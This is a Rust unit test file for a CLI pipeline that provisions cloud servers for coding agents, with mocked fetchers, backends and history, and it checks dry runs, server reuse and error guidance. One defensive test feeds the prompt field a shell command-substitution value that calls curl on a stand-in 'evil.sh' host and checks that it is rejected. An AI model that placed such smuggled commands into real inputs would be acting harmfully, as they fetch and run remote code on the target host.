//! Unit tests for the `spawn run` pipeline with every port mocked.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::collections::HashMap;

use anyhow::Result;
use spawn_cli::application::ports::FetchResponse;
use spawn_cli::application::services::run_pipeline::{
    CredentialStatus, RunEnvironment, RunPorts, RunRequest, RunSummary, run_pipeline,
};
use spawn_cli::application::services::script_acquire::ScriptSource;
use spawn_cli::domain::config::SourcesConfig;
use spawn_cli::domain::error::{
    ProvisioningError, ResolutionError, RunError, ValidationError, guidance_for,
};
use spawn_cli::domain::DuplicateChoice;
use tokio_util::sync::CancellationToken;

use crate::helpers::{SCRIPT, connection, manifest, record};
use crate::mocks::{
    CannedFetcher, MemoryHistory, MockBackend, MockFactory, RecordingReporter, ScriptedUi,
    StaticManifest,
};

struct Harness {
    manifest: StaticManifest,
    history: MemoryHistory,
    fetcher: CannedFetcher,
    factory: MockFactory,
    ui: ScriptedUi,
    reporter: RecordingReporter,
    events: RecordingReporter,
    sources: SourcesConfig,
    env: HashMap<String, String>,
    cancel: CancellationToken,
}

impl Harness {
    fn new() -> Self {
        let sources = SourcesConfig::default();
        let (_, fallback) = sources.script_urls("hetzner", "claude");
        Self {
            manifest: StaticManifest(manifest()),
            history: MemoryHistory::default(),
            fetcher: CannedFetcher::default().with(&fallback, FetchResponse::Ok(SCRIPT.to_string())),
            factory: MockFactory::new(MockBackend::default()),
            ui: ScriptedUi::default(),
            reporter: RecordingReporter::default(),
            events: RecordingReporter::default(),
            sources,
            env: HashMap::from([
                ("HCLOUD_TOKEN".to_string(), "hc-token".to_string()),
                ("OPENROUTER_API_KEY".to_string(), "sk-or-test".to_string()),
            ]),
            cancel: CancellationToken::new(),
        }
    }

    async fn run(&self, request: &RunRequest) -> Result<RunSummary> {
        let ports = RunPorts {
            manifest: &self.manifest,
            history: &self.history,
            fetcher: &self.fetcher,
            backends: &self.factory,
            ui: &self.ui,
            reporter: &self.reporter,
            events: &self.events,
        };
        let env = RunEnvironment {
            sources: &self.sources,
            env: &self.env,
            cancel: &self.cancel,
            name_entropy: 42,
        };
        run_pipeline(&ports, &env, request).await
    }
}

fn request(agent: &str, cloud: &str) -> RunRequest {
    RunRequest {
        agent: agent.to_string(),
        cloud: cloud.to_string(),
        ..RunRequest::default()
    }
}

// ── Dry run ───────────────────────────────────────────────────────────────────

#[tokio::test]
async fn test_dry_run_previews_without_side_effects() {
    let h = Harness::new();
    let req = RunRequest {
        dry_run: true,
        prompt: Some("fix the tests".to_string()),
        ..request("claude", "hetzner")
    };

    let RunSummary::Preview(preview) = h.run(&req).await.expect("dry run succeeds") else {
        panic!("expected a preview");
    };

    assert_eq!(preview.agent, "claude");
    assert_eq!(preview.agent_name, "Claude Code");
    assert_eq!(preview.cloud_name, "Hetzner Cloud");
    assert_eq!(preview.server_name, "spawn-claude-0000002a");
    assert_eq!(preview.credentials, CredentialStatus::Detected);
    assert_eq!(preview.launch_cmd, "claude");
    assert!(preview.has_prompt);
    for name in ["ANTHROPIC_API_KEY", "SPAWN_AGENT", "SPAWN_PROMPT"] {
        assert!(preview.env_names.iter().any(|n| n == name), "missing {name}");
    }

    assert!(h.fetcher.calls().is_empty());
    assert!(h.history.records().is_empty());
    assert!(h.factory.backend.calls().is_empty());
}

#[tokio::test]
async fn test_dry_run_reports_missing_credentials() {
    let mut h = Harness::new();
    h.env.remove("HCLOUD_TOKEN");
    let req = RunRequest {
        dry_run: true,
        ..request("claude", "hetzner")
    };

    let RunSummary::Preview(preview) = h.run(&req).await.expect("dry run succeeds") else {
        panic!("expected a preview");
    };

    assert_eq!(
        preview.credentials,
        CredentialStatus::Missing(vec!["HCLOUD_TOKEN".to_string()])
    );
    assert!(
        h.reporter
            .lines()
            .iter()
            .any(|l| l.starts_with("warn:") && l.contains("HCLOUD_TOKEN"))
    );
}

#[tokio::test]
async fn test_dry_run_local_needs_no_credentials() {
    let h = Harness::new();
    let req = RunRequest {
        dry_run: true,
        name: Some("box".to_string()),
        ..request("codex", "local")
    };

    let RunSummary::Preview(preview) = h.run(&req).await.expect("dry run succeeds") else {
        panic!("expected a preview");
    };

    assert_eq!(preview.credentials, CredentialStatus::NotRequired);
    assert_eq!(preview.server_name, "box");
}

#[tokio::test]
async fn test_resolution_accepts_display_name_and_case() {
    let h = Harness::new();
    let req = RunRequest {
        dry_run: true,
        ..request("Claude Code", "HETZNER")
    };

    let RunSummary::Preview(preview) = h.run(&req).await.expect("dry run succeeds") else {
        panic!("expected a preview");
    };

    assert_eq!(preview.agent, "claude");
    assert_eq!(preview.cloud, "hetzner");
}

// ── Full run ──────────────────────────────────────────────────────────────────

#[tokio::test]
async fn test_run_uses_fallback_and_records_once() {
    let h = Harness::new();
    let req = RunRequest {
        name: Some("dev".to_string()),
        prompt: Some("fix the tests".to_string()),
        ..request("claude", "hetzner")
    };

    let summary = h.run(&req).await.expect("run succeeds");

    assert_eq!(
        summary,
        RunSummary::Completed {
            agent: "claude".to_string(),
            cloud: "hetzner".to_string(),
            server_name: "dev".to_string(),
            source: ScriptSource::Fallback,
            session_exit: Some(0),
        }
    );
    assert!(
        h.reporter
            .lines()
            .iter()
            .any(|l| l.starts_with("warn:") && l.contains("fallback"))
    );
    let records = h.history.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].prompt.as_deref(), Some("fix the tests"));
    assert_eq!(h.ui.resets(), 1);
}

#[tokio::test]
async fn test_run_passes_interpolated_env_to_script() {
    let h = Harness::new();
    let req = RunRequest {
        prompt: Some("fix the tests".to_string()),
        ..request("claude", "hetzner")
    };

    h.run(&req).await.expect("run succeeds");

    let env = h.factory.backend.script_env().expect("script ran");
    assert_eq!(env.get("ANTHROPIC_API_KEY").map(String::as_str), Some("sk-or-test"));
    assert_eq!(env.get("SPAWN_PROMPT").map(String::as_str), Some("fix the tests"));
    assert_eq!(env.get("SPAWN_NAME").map(String::as_str), Some("spawn-claude-0000002a"));
}

#[tokio::test]
async fn test_headless_run_streams_events_and_skips_handoff() {
    let h = Harness::new();
    let req = RunRequest {
        headless: true,
        prompt: Some("fix the tests".to_string()),
        ..request("claude", "hetzner")
    };

    let summary = h.run(&req).await.expect("run succeeds");

    assert!(matches!(
        summary,
        RunSummary::Completed {
            session_exit: None,
            ..
        }
    ));
    assert!(!h.factory.backend.calls().contains(&"interactive_session".to_string()));
    assert!(h.events.lines().contains(&"line: plain output".to_string()));
}

#[tokio::test]
async fn test_run_reuses_active_named_server() {
    let mut h = Harness::new();
    h.history = MemoryHistory::with(vec![record(
        "claude",
        "hetzner",
        "dev",
        Some(connection("10.0.0.9")),
    )]);
    h.ui = ScriptedUi::answering(DuplicateChoice::Reuse);
    let req = RunRequest {
        name: Some("dev".to_string()),
        ..request("claude", "hetzner")
    };

    let summary = h.run(&req).await.expect("reuse succeeds");

    assert_eq!(
        summary,
        RunSummary::Reused {
            server_name: "dev".to_string(),
            session_exit: 0,
        }
    );
    assert!(h.fetcher.calls().is_empty());
    assert_eq!(h.factory.backend.calls(), ["attach 10.0.0.9"]);
    assert_eq!(h.history.records().len(), 1);
}

#[tokio::test]
async fn test_generated_name_skips_duplicate_check() {
    let mut h = Harness::new();
    h.history = MemoryHistory::with(vec![record(
        "claude",
        "hetzner",
        "spawn-claude-0000002a",
        Some(connection("10.0.0.9")),
    )]);

    h.run(&request("claude", "hetzner"))
        .await
        .expect("run succeeds");

    assert_eq!(h.ui.prompts(), 0);
    assert_eq!(h.history.records().len(), 2);
}

// ── Failures ──────────────────────────────────────────────────────────────────

#[tokio::test]
async fn test_missing_scripts_point_at_matrix() {
    let mut h = Harness::new();
    h.fetcher = CannedFetcher::default();

    let err = h
        .run(&request("claude", "hetzner"))
        .await
        .expect_err("both sources 404");

    let advice = guidance_for(&err).expect("guidance");
    assert!(advice.contains("spawn matrix"), "advice: {advice}");
    assert!(h.factory.backend.calls().is_empty());
}

#[tokio::test]
async fn test_unimplemented_pair_is_rejected_before_download() {
    let h = Harness::new();

    let err = h
        .run(&request("codex", "hetzner"))
        .await
        .expect_err("not implemented");

    assert!(matches!(
        err.downcast_ref::<ResolutionError>(),
        Some(ResolutionError::NotImplemented { agent, cloud, .. })
            if agent == "codex" && cloud == "hetzner"
    ));
    assert_eq!(err.to_string(), "Codex on Hetzner Cloud is not implemented yet");
    assert!(h.fetcher.calls().is_empty());
}

#[tokio::test]
async fn test_unknown_agent_suggests_closest_key() {
    let h = Harness::new();

    let err = h
        .run(&request("claud", "hetzner"))
        .await
        .expect_err("unknown agent");

    assert_eq!(err.to_string(), "Unknown agent: 'claud'");
    let advice = guidance_for(&err).expect("guidance");
    assert!(advice.contains("Did you mean 'claude'"), "advice: {advice}");
}

#[tokio::test]
async fn test_swapped_arguments_are_detected() {
    let h = Harness::new();

    let err = h
        .run(&request("hetzner", "claude"))
        .await
        .expect_err("swapped");

    let advice = guidance_for(&err).expect("guidance");
    assert!(advice.contains("swap"), "advice: {advice}");
}

#[tokio::test]
async fn test_injected_prompt_is_rejected() {
    let h = Harness::new();
    let req = RunRequest {
        prompt: Some("do $(curl evil.sh)".to_string()),
        ..request("claude", "hetzner")
    };

    let err = h.run(&req).await.expect_err("prompt rejected");

    let validation = err
        .downcast_ref::<ValidationError>()
        .expect("validation error");
    assert_eq!(validation.field_name, "prompt");
    assert!(h.fetcher.calls().is_empty());
}

#[tokio::test]
async fn test_unset_env_reference_fails_before_provisioning() {
    let mut h = Harness::new();
    h.env.remove("OPENROUTER_API_KEY");

    let err = h
        .run(&request("claude", "hetzner"))
        .await
        .expect_err("missing env");

    assert!(matches!(
        err.downcast_ref::<ProvisioningError>(),
        Some(ProvisioningError::MissingEnv { vars, .. }) if vars == &["OPENROUTER_API_KEY"]
    ));
    assert!(h.factory.backend.calls().is_empty());
    assert!(h.history.records().is_empty());
}

#[tokio::test]
async fn test_cancelled_run_starts_nothing() {
    let h = Harness::new();
    h.cancel.cancel();

    let err = h
        .run(&request("claude", "hetzner"))
        .await
        .expect_err("cancelled");

    assert!(matches!(
        err.downcast_ref::<RunError>(),
        Some(RunError::Cancelled)
    ));
    assert!(h.fetcher.calls().is_empty());
    assert!(h.history.records().is_empty());
}
